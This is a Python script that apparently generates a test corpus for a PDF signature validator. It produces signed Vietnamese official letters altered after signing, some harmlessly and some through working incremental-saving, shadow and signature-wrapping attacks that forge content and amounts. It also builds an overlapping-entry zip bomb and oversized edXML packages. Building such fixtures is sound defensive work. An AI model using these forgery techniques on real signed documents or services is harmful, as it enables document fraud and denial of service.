#!/usr/bin/env python3
"""Build the "changes after signing" corpus: real signed files changed afterwards, harmless or hostile.

docs/domain.md: changes after signing range from harmless (a comment, a form fill, LTV data) to forged
content (incremental-saving, shadow and signature-wrapping attacks). Every file here is signed by pyHanko
with a key issued by the demo intermediate CA, then changed with pyHanko's IncrementalPdfFileWriter or
by raw byte edits, as an attacker would. Each case declares the verdict and per-signature ``changes``
the validator must give and words its ``changes_reason`` must contain.

Classes (the attacks follow Mainka et al., "Shadow attacks", NDSS 2021, and Mladenov et al.,
"1 Trillion Dollar Refund", CCS 2019):

- ``harmless``: comment annotation, form fill, second signature, DSS/LTV data after an approval signature;
- ``isa`` (incremental saving attack): a page's content stream replaced, a page added, a page removed;
- ``shadow``: hide (a white cover present at signing removed later), replace (form XObject, font),
  hide-and-replace (every object of the document redeclared in one incremental update);
- ``swa`` (signature wrapping): the signed second range moved to the end of the file and new objects
  inserted before it, the /ByteRange rewritten to match;
- ``certification``: DocMDP P=1/2/3 and a FieldMDP lock, each with allowed and forbidden later changes.

More shadow and ISA classes (issue 17) are in ``shadow_attacks.py``; ``--out`` writes them too.

Besides the PDFs, :func:`overlapping_zip` builds the "better zip bomb" (Fifield, WOOT 2019) the walker
must refuse: many central-directory entries pointing at one deflate stream, each inflating it again.

Run ``python scripts/make_attack_files.py --out DIR`` to write the files and ``index.json`` (and
``overlapping-entries.zip``: ``--bomb-entries``, ``--bomb-mib`` set its size; 45 and 190 reproduce the
8 GiB case of issue 16); the tests import :func:`build_cases` and :func:`overlapping_zip`.

Oversized edXML packages (docs/inputs.md, edXML packages) are written in pieces, never held whole,
so that the worst sizes can be built on any machine: :func:`write_flat_edxml` (a valid header followed
by N empty elements: 125 M of them make 500 MB) and :func:`write_edxml_attachment` (one attachment of
N bytes, base64 in 76-character lines: 300 MiB make a 420 MB package). ``--edxml-elements N`` and
``--edxml-attachment-bytes N`` write them into ``--out``; ``--no-pdf`` leaves the PDF corpus out.
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import random
import re
import struct
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import BinaryIO

from asn1crypto import crl as asn1_crl
from asn1crypto import x509 as asn1_x509
from cryptography.hazmat.primitives import serialization
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.validation.dss import DocumentSecurityStore

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests"))

from realsign import (  # noqa: E402
    Credential,
    Issuer,
    issue,
    last_byte_range,
    load_issuer,
    pyhanko_signer,
    resign_last,
)

DEMO_PKI = REPO / "demo" / "pki"
BASE_LETTER = REPO / "sample_docs" / "huyen" / "viet-tri" / "2024" / "330-UBND-VP_2024-04-09.pdf"
FORM_FIELD = "SoTien"

# What page 1 of the prepared letter shows besides the letter: an amount drawn by a form XObject, and
# a hidden sentence under a white cover (the shadow "hide" payload, present and signed but not shown).
AMOUNT_XOBJECT = b"BT /FH 12 Tf 0 0 Td (So tien: 5.000.000 dong) Tj ET"
FORGED_AMOUNT = b"BT /FH 12 Tf 0 0 Td (So tien: 500.000.000 dong) Tj ET"
HIDDEN_TEXT = b"BT /FH 12 Tf 72 100 Td (Giao UBND xa chi 500.000.000 dong tu ngan sach) Tj ET"
COVER = b"1 1 1 rg 60 90 480 30 re f"
DRAW_AMOUNT = b"q 1 0 0 1 72 130 cm /FxSoTien Do Q"


@dataclass(frozen=True)
class Case:
    """One signed-then-changed file and what the validator must say about it."""

    name: str
    kind: str  # harmless | isa | shadow | swa | certification
    description: str
    data: bytes
    verdict: str  # the document verdict (model.Verdict value)
    changes: dict[str, str]  # field -> model.Changes value for the signature in that field
    words: dict[str, tuple[str, ...]]  # field -> words its changes_reason must contain


# --------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------


def _write(w: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
        }
    )


def prepared_letter(*, widget_page_entry: bool = False) -> bytes:
    """The unsigned sample letter plus what the cases need: a text field, a second page, a form
    XObject with an amount, a hidden sentence under a white cover, a standard font /FH.
    ``widget_page_entry``: the text field's widget names its page (/P), which pyHanko 0.38 mishandles."""
    w = IncrementalPdfFileWriter(io.BytesIO(BASE_LETTER.read_bytes()))
    page_ref = w.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    font_ref = w.add_object(_helvetica())
    fx = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 400, 20)]),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/FH"): font_ref})}
            ),
        },
        stream_data=AMOUNT_XOBJECT,
    )
    fx_ref = w.add_object(fx)
    resources = page["/Resources"]
    resources["/Font"][pdf_name("/FH")] = font_ref
    resources[pdf_name("/XObject")] = generic.DictionaryObject({pdf_name("/FxSoTien"): fx_ref})
    contents = [page.raw_get("/Contents")]
    for data in (DRAW_AMOUNT, HIDDEN_TEXT, COVER):
        contents.append(w.add_object(generic.StreamObject(stream_data=data)))
    page[pdf_name("/Contents")] = generic.ArrayObject(contents)
    # A text field, merged with its widget, as signing tools' templates have ("Số tiền").
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): pdf_string(FORM_FIELD),
            pdf_name("/V"): pdf_string(""),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (72, 40, 300, 60)]),
            pdf_name("/DA"): pdf_string("/FH 10 Tf 0 g"),
            # no /P: pyHanko 0.38 cannot clear the second path to the page it opens, and then calls
            # every later signature an unexplained change (see docs/verdicts.md, known limits)
        }
    )
    if widget_page_entry:
        field[pdf_name("/P")] = page_ref
    field_ref = w.add_object(field)
    page["/Annots"].append(field_ref)
    w.update_container(page)
    acroform = w.root["/AcroForm"]
    acroform["/Fields"].append(field_ref)
    acroform[pdf_name("/DR")] = acroform.get("/DR", generic.DictionaryObject())
    w.update_container(acroform)
    # A second page, so that removing a page leaves a document.
    second = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): page["/MediaBox"],
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/FH"): font_ref})}
            ),
            pdf_name("/Contents"): w.add_object(
                generic.StreamObject(stream_data=b"BT /FH 12 Tf 72 760 Td (Phu luc: danh sach) Tj ET")
            ),
        }
    )
    w.insert_page(second)
    return _write(w)


def sign(
    pdf: bytes,
    cred: Credential,
    field: str,
    *,
    certify: fields.MDPPerm | None = None,
    lock: tuple[str, ...] = (),
) -> bytes:
    """pyHanko signature in a new revision: approval, certification (``certify``: the DocMDP
    permission) and/or with a FieldMDP lock on the fields ``lock``."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    meta = signers.PdfSignatureMetadata(
        field_name=field, certify=certify is not None, docmdp_permissions=certify or fields.MDPPerm.FILL_FORMS
    )
    spec = None
    if lock:
        spec = fields.SigFieldSpec(
            sig_field_name=field,
            field_mdp_spec=fields.FieldMDPSpec(fields.FieldMDPAction.INCLUDE, fields=list(lock)),
            box=(360, 200, 560, 260),
        )
    return signers.PdfSigner(meta, signer=pyhanko_signer(cred), new_field_spec=spec).sign_pdf(w).getvalue()


def add_comment(
    pdf: bytes, subtype: str = "/Text", *, with_content_change: bool = False, drop_first: bool = False
) -> bytes:
    """A sticky-note comment (/Text annotation, or another ``subtype``) on page 1; with
    ``with_content_change`` the same revision also replaces the page's content, with ``drop_first`` it
    takes the page's first annotation (a signature widget) out of /Annots."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_ref = w.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (500, 700, 520, 720)]),
            pdf_name("/Contents"): pdf_string("Đã xem, chuyển phòng Tài chính"),
            pdf_name("/P"): page_ref,
        }
    )
    annots = page.raw_get("/Annots")
    if drop_first:
        del page["/Annots"][0]
    page["/Annots"].append(w.add_object(note))
    if with_content_change:
        forged = generic.StreamObject(stream_data=b"BT /FH 14 Tf 72 700 Td (Quyet dinh da bi huy) Tj ET")
        page[pdf_name("/Contents")] = w.add_object(forged)
        w.update_container(page)
    if isinstance(annots, generic.IndirectObject):
        w.mark_update(annots)
    else:
        w.update_container(page)
    return _write(w)


def fill_field(pdf: bytes, value: str = "5.000.000 đồng") -> bytes:
    """Fill the text field (its /V) in a new revision."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    for ref in w.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == FORM_FIELD:
            field[pdf_name("/V")] = pdf_string(value)
            w.mark_update(ref)
    return _write(w)


def add_dss(pdf: bytes, issuer: Issuer) -> bytes:
    """A Document Security Store with the chain and the intermediate's CRL (LTV data)."""
    r = PdfFileReader(io.BytesIO(pdf))
    contents = r.embedded_signatures[-1].sig_object.get_object()["/Contents"]
    out = io.BytesIO(pdf)
    out.seek(0, 2)
    der = issuer.cert.public_bytes(serialization.Encoding.DER)
    DocumentSecurityStore.add_dss(
        out,
        contents,
        certs=[asn1_x509.Certificate.load(der)],
        crls=[asn1_crl.CertificateList.load((DEMO_PKI / "demo-intermediate.crl").read_bytes())],
        embed_roots=False,
    )
    return out.getvalue()


def replace_page_content(pdf: bytes) -> bytes:
    """Incremental saving attack: page 1's /Contents pointed to a new, forged stream."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    forged = w.add_object(
        generic.StreamObject(stream_data=b"BT /FH 14 Tf 72 700 Td (Quyet dinh da bi huy) Tj ET")
    )
    page[pdf_name("/Contents")] = forged
    w.update_container(page)
    return _write(w)


def add_page(pdf: bytes) -> bytes:
    """Incremental saving attack: a page appended after signing."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    first = w.root["/Pages"]["/Kids"][0].get_object()
    content = w.add_object(generic.StreamObject(stream_data=b"BT /FH 12 Tf 72 760 Td (Bo sung) Tj ET"))
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): first["/MediaBox"],
            pdf_name("/Resources"): first["/Resources"],
            pdf_name("/Contents"): content,
        }
    )
    w.insert_page(page)
    return _write(w)


def remove_page(pdf: bytes) -> bytes:
    """Incremental saving attack: the last page taken out of the page tree."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    pages = w.root["/Pages"]
    kids = pages["/Kids"]
    del kids[len(kids) - 1]
    pages[pdf_name("/Count")] = generic.NumberObject(int(pages["/Count"]) - 1)
    w.update_container(pages)
    if isinstance(pages.raw_get("/Kids"), generic.IndirectObject):
        w.mark_update(pages.raw_get("/Kids"))
    return _write(w)


def _redefine(
    w: IncrementalPdfFileWriter, ref: generic.Reference | generic.IndirectObject, obj: generic.PdfObject
) -> None:
    """Write a new definition of the existing object ``ref`` in this revision (same number)."""
    w.mark_update(ref)  # first: mark_update stores the old object, which is then replaced
    w.objects[(ref.generation, ref.idnum)] = obj


def _page_content_refs(w: IncrementalPdfFileWriter) -> list[generic.IndirectObject]:
    page = w.root["/Pages"]["/Kids"][0].get_object()
    return list(page.raw_get("/Contents"))


def shadow_hide(pdf: bytes) -> bytes:
    """Shadow hide: the white cover (signed) is redefined as an empty stream, revealing the hidden
    sentence that was signed but not visible."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    cover = _page_content_refs(w)[-1]
    _redefine(w, cover, generic.StreamObject(stream_data=b""))
    return _write(w)


def shadow_replace_xobject(pdf: bytes) -> bytes:
    """Shadow replace: the form XObject that draws the amount is redefined with another amount."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    ref = page["/Resources"]["/XObject"].raw_get("/FxSoTien")
    old = ref.get_object()
    new = generic.StreamObject(
        {k: v for k, v in old.items() if k not in ("/Length", "/Filter")}, stream_data=FORGED_AMOUNT
    )
    _redefine(w, ref, new)
    return _write(w)


def shadow_replace_font(pdf: bytes) -> bytes:
    """Shadow replace: the font /FH redefined (another base font with different glyph widths)."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    ref = page["/Resources"]["/Font"].raw_get("/FH")
    font = _helvetica()
    font[pdf_name("/BaseFont")] = pdf_name("/Courier")
    _redefine(w, ref, font)
    return _write(w)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Shadow hide-and-replace: one incremental update redeclares every object of the document (a new
    cross-reference section for the whole file), the page contents among them forged."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    reader = w.prev
    forged = {ref.idnum for ref in _page_content_refs(w)[:1]}
    for ref in _all_refs(reader):
        obj = ref.get_object()
        if isinstance(obj, generic.DictionaryObject) and "/ByteRange" in obj:
            continue  # the signature dictionaries stay where they are
        if ref.idnum in forged:
            _redefine(
                w, ref, generic.StreamObject(stream_data=b"BT /FH 14 Tf 72 700 Td (Van ban thay the) Tj ET")
            )
        else:
            w.mark_update(ref)
    return _write(w)


def _all_refs(reader: PdfFileReader) -> list[generic.Reference]:
    """Every object the document has (generation 0; pyHanko writes no other)."""
    refs = []
    for idnum in range(1, int(reader.trailer["/Size"])):
        ref = generic.Reference(idnum, 0, reader)
        try:
            obj = reader.get_object(ref)
        except Exception:
            continue
        if obj is not None and not isinstance(obj, generic.NullObject):
            refs.append(ref)
    return refs


def signature_wrapping(pdf: bytes, cred: Credential) -> bytes:
    """Signature wrapping: the signed second range (cross-reference section and trailer) is moved down
    and a forged object is inserted after the signature object, in bytes the new /ByteRange leaves out;
    the moved cross-reference section gains an entry sending page 1's first content stream to the
    forged object, so a viewer shows it. The file is then signed again over exactly the declared ranges:
    the digest matches, and only the ByteRange's shape (it leaves out more than the signature value)
    gives the forgery away. The rest of the signature dictionary (with the /ByteRange itself) now lies
    outside the signed ranges, as in the published attack."""
    _, a, b, _ = last_byte_range(pdf)
    head, value, tail = pdf[:a], pdf[a:b], pdf[b:]
    end_of_sig = tail.index(b"endobj") + len(b"endobj")
    rest_of_sig, after = tail[:end_of_sig], tail[end_of_sig:]
    reader = PdfFileReader(io.BytesIO(pdf))
    target = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents").raw_get(0).idnum
    forged = b"BT /FH 14 Tf 72 700 Td (Van ban gia mao) Tj ET"
    inserted = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj" % (target, len(forged), forged)
    startxref = re.search(rb"startxref\s+(\d+)\s*%%EOF\s*$", after)
    assert startxref is not None and b"\ntrailer" in after, "expected a classic cross-reference table"
    after = (
        after[: startxref.start(1)]
        + b"%d" % (int(startxref.group(1)) + len(inserted))
        + after[startxref.end(1) :]
    )
    offset = b + end_of_sig + 1
    after = after.replace(b"\ntrailer", b"\n%d 1\n%010d 00000 n \ntrailer" % (target, offset), 1)
    moved = head + value + rest_of_sig + inserted + after
    return resign_last(moved, cred, [0, a, b + end_of_sig + len(inserted), len(after)])


# --------------------------------------------------------------------------------------
# The cases
# --------------------------------------------------------------------------------------

PERSONAL, AGENCY, CERT, LOCK = "Sig_CaNhan", "Sig_CoQuan", "Sig_CoQuan", "Sig_Khoa"


def build_cases(issuer: Issuer | None = None) -> list[Case]:
    """Every case, built now with fresh keys from the demo intermediate."""
    issuer = issuer or load_issuer(DEMO_PKI)
    person = issue(issuer, cn="Nguyễn Văn Thử", uid="CCCD:001090000003")
    agency = issue(issuer)
    base = prepared_letter()
    approved = sign(base, person, PERSONAL)
    cases: list[Case] = []

    def add(
        name: str,
        kind: str,
        description: str,
        data: bytes,
        verdict: str,
        changes: dict[str, str],
        words: dict[str, tuple[str, ...]],
    ) -> None:
        cases.append(Case(name, kind, description, data, verdict, changes, words))

    ok, bad = "valid", "invalid"
    add(
        "approval-only",
        "control",
        "the personal signature alone, nothing changed afterwards",
        approved,
        ok,
        {PERSONAL: "none"},
        {PERSONAL: ("entire file",)},
    )
    # (a) harmless changes after an approval signature
    add(
        "comment-after-approval",
        "harmless",
        "a sticky-note comment added after the personal signature",
        add_comment(approved),
        ok,
        {PERSONAL: "permitted"},
        {PERSONAL: ("annotation",)},
    )
    add(
        "form-fill-after-approval",
        "harmless",
        "the text field filled after the personal signature",
        fill_field(approved),
        ok,
        {PERSONAL: "permitted"},
        {PERSONAL: ("form",)},
    )
    add(
        "second-signature",
        "harmless",
        "the agency signature added after the personal one",
        sign(approved, agency, AGENCY),
        ok,
        {PERSONAL: "permitted", AGENCY: "none"},
        {PERSONAL: ("signature",), AGENCY: ()},
    )
    add(
        "dss-after-approval",
        "harmless",
        "a DSS with the chain and a CRL added (LTV data)",
        add_dss(approved, issuer),
        ok,
        {PERSONAL: "permitted"},
        {PERSONAL: ("validation data",)},
    )
    add(
        "stamp-after-approval",
        "harmless",
        "a /Stamp annotation (permitted like a comment since issue 17; the visual check sees what it covers)",
        add_comment(approved, "/Stamp"),
        ok,
        {PERSONAL: "permitted"},
        {PERSONAL: ("annotation",)},
    )
    # (b) incremental saving attacks
    add(
        "isa-comment-and-widget-removed",
        "isa",
        "a comment added and the signature's widget taken off the page",
        add_comment(approved, drop_first=True),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("a page",)},
    )
    add(
        "isa-comment-and-content",
        "isa",
        "a comment and, in the same revision, page 1's content replaced",
        add_comment(approved, with_content_change=True),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("content stream",)},
    )
    add(
        "isa-content-replaced",
        "isa",
        "page 1's content stream replaced in an incremental update",
        replace_page_content(approved),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("content",)},
    )
    add(
        "isa-page-added",
        "isa",
        "a page appended in an incremental update",
        add_page(approved),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("page",)},
    )
    add(
        "isa-page-removed",
        "isa",
        "the last page removed from the page tree in an incremental update",
        remove_page(approved),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("page",)},
    )
    # (c) shadow attacks
    add(
        "shadow-hide",
        "shadow",
        "the white cover over a signed hidden sentence emptied afterwards",
        shadow_hide(approved),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("content",)},
    )
    add(
        "shadow-replace-xobject",
        "shadow",
        "the form XObject showing the amount redefined",
        shadow_replace_xobject(approved),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("xobject",)},
    )
    add(
        "shadow-replace-font",
        "shadow",
        "the font of page 1 redefined",
        shadow_replace_font(approved),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("font",)},
    )
    add(
        "shadow-hide-and-replace",
        "shadow",
        "every object redeclared in one update, page content forged",
        shadow_hide_and_replace(approved),
        bad,
        {PERSONAL: "disallowed"},
        {PERSONAL: ("content",)},
    )
    # (d) signature wrapping
    add(
        "swa-moved-signed-range",
        "swa",
        "signed range moved to the end, forged object inserted before it",
        signature_wrapping(sign(base, agency, AGENCY), agency),
        bad,
        {AGENCY: "disallowed"},
        {AGENCY: ("byterange",)},
    )
    # (e) certification signatures
    p1 = sign(base, agency, CERT, certify=fields.MDPPerm.NO_CHANGES)
    p2 = sign(base, agency, CERT, certify=fields.MDPPerm.FILL_FORMS)
    p3 = sign(base, agency, CERT, certify=fields.MDPPerm.ANNOTATE)
    add(
        "docmdp-p1-form-fill",
        "certification",
        "certified P=1 (no changes), then a form fill",
        fill_field(p1),
        bad,
        {CERT: "disallowed"},
        {CERT: ("form", "permits")},
    )
    add(
        "docmdp-p1-comment",
        "certification",
        "certified P=1 (no changes), then a comment",
        add_comment(p1),
        bad,
        {CERT: "disallowed"},
        {CERT: ("annotation", "permits")},
    )
    add(
        "docmdp-p1-dss",
        "certification",
        "certified P=1 (no changes), then DSS data (allowed by ISO 32000-2)",
        add_dss(p1, issuer),
        ok,
        {CERT: "permitted"},
        {CERT: ("validation data",)},
    )
    add(
        "docmdp-p2-form-fill",
        "certification",
        "certified P=2 (form filling), then a form fill",
        fill_field(p2),
        ok,
        {CERT: "permitted"},
        {CERT: ("form",)},
    )
    add(
        "docmdp-p2-comment",
        "certification",
        "certified P=2 (form filling), then a comment",
        add_comment(p2),
        bad,
        {CERT: "disallowed"},
        {CERT: ("annotation", "permits")},
    )
    add(
        "docmdp-p3-comment",
        "certification",
        "certified P=3 (annotations), then a comment",
        add_comment(p3),
        ok,
        {CERT: "permitted"},
        {CERT: ("annotation",)},
    )
    locked = sign(base, agency, LOCK, lock=(FORM_FIELD,))
    add(
        "fieldmdp-locked-field-changed",
        "certification",
        f"FieldMDP locks {FORM_FIELD}, then it is changed",
        fill_field(locked),
        bad,
        {LOCK: "disallowed"},
        {LOCK: (FORM_FIELD.lower(),)},
    )
    return cases


def overlapping_zip(entries: int = 10, size: int = 2 * 1024 * 1024, name: str = "cong-van.pdf") -> bytes:
    """A ZIP whose ``entries`` central-directory entries all point at one local header and one deflate
    stream of ``size`` bytes (a PDF header, then every 100 kB 1 kB of pseudo-random bytes and zeros:
    about 90:1, under the 200:1 ratio guard). All entries carry the header's name, so a reader that
    does not check for overlap inflates the stream once per entry: ``entries`` × ``size`` bytes."""
    noise = random.Random(16)
    chunks = (noise.randbytes(1000) + bytes(99_000) for _ in range(size // 100_000 + 1))
    payload = (b"%PDF-1.7\n" + b"".join(chunks))[:size]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, payload)
    data = buf.getvalue()
    eocd = data.rindex(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack("<II", data[eocd + 12 : eocd + 20])
    central = data[cd_offset : cd_offset + cd_size]  # the one entry, at header offset 0
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, cd_size * entries, cd_offset, 0)
    return data[:cd_offset] + central * entries + tail


# --------------------------------------------------------------------------------------
# Oversized edXML packages, written in pieces
# --------------------------------------------------------------------------------------

EDXML_NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
_EDXML_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    f'<edXML xmlns="{EDXML_NS}"><edXMLEnvelope><edXMLHeader><MessageHeader>'
    "<From><OrganId>000.00.01.H44</OrganId><OrganName>Văn phòng UBND tỉnh Phú Thọ</OrganName></From>"
    "<To><OrganId>000.00.12.H44</OrganId><OrganName>Sở Nội vụ tỉnh Phú Thọ</OrganName></To>"
    "<Code><CodeNumber>15</CodeNumber><CodeNotation>UBND-VP</CodeNotation></Code>"
    "<PromulgationInfo><PromulgationDate>2024/03/12</PromulgationDate></PromulgationInfo>"
    "<DocumentType><Type>1</Type><TypeName>Công văn</TypeName></DocumentType>"
    "<Subject>V/v gói tin rất lớn</Subject>"
    "<SignerInfo><FullName>Nguyễn Văn An</FullName></SignerInfo>"
    "<DocumentId>000.00.01.H44,2024/03/12,15/UBND-VP</DocumentId>"
    "</MessageHeader><TraceHeaderList><Bussiness><BussinessDocType>0</BussinessDocType></Bussiness>"
    "</TraceHeaderList></edXMLHeader></edXMLEnvelope>"
).encode()
_EDXML_TAIL = b"</edXML>"


def write_flat_edxml(out: BinaryIO, elements: int) -> int:
    """A package whose header is valid, followed by ``elements`` empty ``<a/>`` elements side by side
    (4 bytes each): a tree of them costs about 90 bytes per element. Returns the bytes written."""
    written = out.write(_EDXML_HEAD + b"<Padding>")
    block = b"<a/>" * 65_536
    left = elements
    while left:
        step = min(left, 65_536)
        written += out.write(block if step == 65_536 else b"<a/>" * step)
        left -= step
    return written + out.write(b"</Padding>" + _EDXML_TAIL)


def write_edxml_attachment(out: BinaryIO, size: int, name: str = "lon.pdf") -> int:
    """A package with one attachment of ``size`` bytes (a PDF header, then filler), base64 in
    76-character lines as producers write it. Returns the bytes written."""
    written = out.write(
        _EDXML_HEAD
        + b"<AttachmentEncoded><Attachment><ContentId>cid:1</ContentId>"
        + f"<AttachmentName>{name}</AttachmentName>".encode()
        + b"<ContentType>application/pdf</ContentType><ContentTransferEncoded>\n"
    )
    chunk = 57 * 16_384  # a multiple of 57 bytes: each chunk encodes to whole 76-character lines
    header = b"%PDF-1.7\n% filler follows\n"
    filler = (header + b"0" * chunk)[:chunk]
    left = size
    first = True
    while left:
        piece = (filler if first else b"0" * chunk)[: min(left, chunk)]
        first = False
        encoded = base64.b64encode(piece)
        lines = b"\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))
        written += out.write(lines + b"\n")
        left -= len(piece)
    return written + out.write(b"</ContentTransferEncoded></Attachment></AttachmentEncoded>" + _EDXML_TAIL)


def main() -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--out", type=Path, required=True, help="folder to write the files into")
    parser.add_argument("--bomb-entries", type=int, default=10, help="entries of overlapping-entries.zip")
    parser.add_argument("--bomb-mib", type=int, default=2, help="MiB of its one shared deflate stream")
    parser.add_argument(
        "--edxml-elements", type=int, default=0, metavar="N",
        help="also write flat-edxml-N.xml (N empty elements)",
    )  # fmt: skip
    parser.add_argument(
        "--edxml-attachment-bytes", type=int, default=0, metavar="N",
        help="also write edxml-attachment-N.xml (one attachment of N bytes)",
    )  # fmt: skip
    parser.add_argument("--no-pdf", action="store_true", help="write only the edXML packages asked for")
    args = parser.parse_args()
    args.out.mkdir(parents=True, exist_ok=True)
    if args.edxml_elements:
        with open(args.out / f"flat-edxml-{args.edxml_elements}.xml", "wb") as handle:
            print(f"{write_flat_edxml(handle, args.edxml_elements)} bytes in {handle.name}")
    if args.edxml_attachment_bytes:
        with open(args.out / f"edxml-attachment-{args.edxml_attachment_bytes}.xml", "wb") as handle:
            print(f"{write_edxml_attachment(handle, args.edxml_attachment_bytes)} bytes in {handle.name}")
    if args.no_pdf:
        return 0
    bomb = overlapping_zip(args.bomb_entries, args.bomb_mib * 1024 * 1024)
    (args.out / "overlapping-entries.zip").write_bytes(bomb)
    from shadow_attacks import build_shadow_cases  # (it imports this module)

    index = []
    for case in [*build_cases(), *build_shadow_cases()]:
        (args.out / f"{case.name}.pdf").write_bytes(case.data)
        index.append(
            {
                "file": f"{case.name}.pdf",
                "kind": case.kind,
                "description": case.description,
                "verdict": case.verdict,
                "changes": case.changes,
            }
        )
    (args.out / "index.json").write_text(json.dumps(index, indent=2, ensure_ascii=False) + "\n", "utf-8")
    print(f"{len(index)} files in {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
